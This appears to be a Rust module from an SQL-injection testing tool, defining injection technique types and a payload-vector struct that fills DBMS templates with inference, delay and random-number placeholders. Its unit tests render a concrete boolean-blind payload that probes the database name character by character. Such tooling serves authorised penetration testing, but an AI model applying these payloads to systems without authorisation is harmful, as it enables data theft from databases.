use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// The exploitation family a vector belongs to; also the priority order used
/// when several vectors confirm (error > boolean > time).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Technique {
    Error,
    Boolean,
    Time,
    Stacked,
    Union,
}

impl Technique {
    pub fn label(&self) -> &'static str {
        match self {
            Technique::Error => "error-based",
            Technique::Boolean => "boolean-based blind",
            Technique::Time => "time-based blind",
            Technique::Stacked => "stacked queries",
            Technique::Union => "union query",
        }
    }

    pub fn priority(&self) -> u8 {
        match self {
            Technique::Error => 0,
            Technique::Boolean => 1,
            Technique::Time => 2,
            Technique::Stacked => 3,
            Technique::Union => 4,
        }
    }
}

/// The boolean condition marker that detection swaps for a concrete
/// true/false pair, and [`Vector::prepared`] swaps for the inference hole.
pub const BOOLEAN_CONDITION_MARKER: &str = "[RANDNUM]=[RANDNUM]";

const INFERENCE: &str = "[INFERENCE]";
const SLEEPTIME: &str = "[SLEEPTIME]";
const RANDNUM: &str = "[RANDNUM]";

/// A payload skeleton bound to one injection point: syntactic boundary
/// (`prefix`/`suffix`) around a DBMS-specific template with placeholder
/// holes. Produced by detection, consumed by inference.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Vector {
    pub prefix: String,
    pub template: String,
    pub suffix: String,
    pub kind: Technique,
}

impl Vector {
    pub fn new(
        prefix: impl Into<String>,
        template: impl Into<String>,
        suffix: impl Into<String>,
        kind: Technique,
    ) -> Self {
        Self {
            prefix: prefix.into(),
            template: template.into(),
            suffix: suffix.into(),
            kind,
        }
    }

    /// Same skeleton with the boolean condition marker opened into the
    /// `[INFERENCE]` hole.
    pub fn prepared(&self) -> Vector {
        Vector {
            prefix: self.prefix.clone(),
            template: self.template.replace(BOOLEAN_CONDITION_MARKER, INFERENCE),
            suffix: self.suffix.clone(),
            kind: self.kind,
        }
    }

    /// Pure textual substitution of every placeholder, wrapped with the
    /// boundary. No placeholder survives into the returned payload.
    pub fn render(&self, inference: &str, sleeptime: u64, randnum: u32) -> String {
        let body = self
            .template
            .replace(INFERENCE, inference)
            .replace(SLEEPTIME, &sleeptime.to_string())
            .replace(RANDNUM, &randnum.to_string());
        debug_assert!(
            !body.contains(INFERENCE) && !body.contains(SLEEPTIME) && !body.contains(RANDNUM),
            "placeholder survived render"
        );
        format!("{}{}{}", self.prefix, body, self.suffix)
    }

    /// The human-readable payload persisted in session records: the template
    /// with its boundary, placeholders left visible.
    pub fn display_payload(&self) -> String {
        format!("{}{}{}", self.prefix, self.template, self.suffix)
    }
}

/// Deterministic pseudo-random integer for a scope string (endpoint +
/// parameter). Stable across re-runs so re-rendered vectors are comparable.
pub fn scoped_randnum(scope: &str) -> u32 {
    let digest = Sha256::digest(scope.as_bytes());
    let folded = u32::from_be_bytes([digest[0], digest[1], digest[2], digest[3]]);
    1000 + folded % 9000
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn render_substitutes_every_placeholder() {
        let vector = Vector::new("'", " AND [INFERENCE] AND [RANDNUM]>[SLEEPTIME]", "-- -", Technique::Boolean);
        let rendered = vector.render("ORD(MID(DATABASE(),1,1))>64", 5, 6123);
        assert_eq!(rendered, "' AND ORD(MID(DATABASE(),1,1))>64 AND 6123>5-- -");
        for marker in ["[INFERENCE]", "[SLEEPTIME]", "[RANDNUM]"] {
            assert!(!rendered.contains(marker));
        }
    }

    #[test]
    fn prepared_opens_condition_marker() {
        let vector = Vector::new("", " AND [RANDNUM]=[RANDNUM]", "", Technique::Boolean);
        assert_eq!(vector.prepared().template, " AND [INFERENCE]");
    }

    #[test]
    fn scoped_randnum_is_stable_and_four_digits() {
        let a = scoped_randnum("/vuln.php|id");
        let b = scoped_randnum("/vuln.php|id");
        let c = scoped_randnum("/vuln.php|uid");
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert!((1000..10000).contains(&a));
    }
}
